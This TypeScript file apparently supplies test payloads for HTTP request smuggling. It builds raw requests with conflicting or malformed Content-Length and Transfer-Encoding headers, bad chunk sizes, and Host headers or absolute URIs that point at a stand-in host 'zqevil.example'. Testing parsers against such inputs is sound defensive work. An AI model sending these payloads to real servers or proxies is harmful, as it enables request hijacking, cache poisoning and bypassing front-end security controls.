const EVIL = "zqevil.example";
/** Requests whose end two parsers may see in different places (CL.TE, TE.CL and variants), so that one is smuggled. */
const smuggled = "GET /v1/zqsmuggled HTTP/1.1\r\nhost: prumo.example\r\nx: ";
export const requestSmuggling: ((path: string) => string)[] = [
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: ${smuggled.length + 5}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n5c\r\n${smuggled}\r\n0\r\n\r\n`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\ntransfer-encoding: x\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: xchunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding : chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding:\tchunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: identity, chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\nx: y\ntransfer-encoding: chunked\r\ncontent-length: 3\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\ncontent-length: ${smuggled.length}\r\n\r\n${smuggled}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: +${smuggled.length}\r\n\r\n${smuggled}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 0x10\r\n\r\n${smuggled}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n0;a=\r\n\n\r\n${smuggled}`,
  (path) =>
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nfffffffffffffff1\r\n${smuggled}\r\n0\r\n\r\n`,
  (path) => `GET ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: ${smuggled.length}\r\n\r\n${smuggled}`,
  (path) =>
    `POST ${path}?a=b HTTP/1.1\r\nX: y\r\n host: z\r\nhost: x\r\ncontent-length: 3\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
  (path) => `POST ${path} HTTP/1.1\r\nhost: x\r\nhost: ${EVIL}\r\ncontent-length: 0\r\n\r\n`,
  (path) => `POST http://${EVIL}${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n`,
  (path) => `POST ${path} HTTP/1.0\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
];
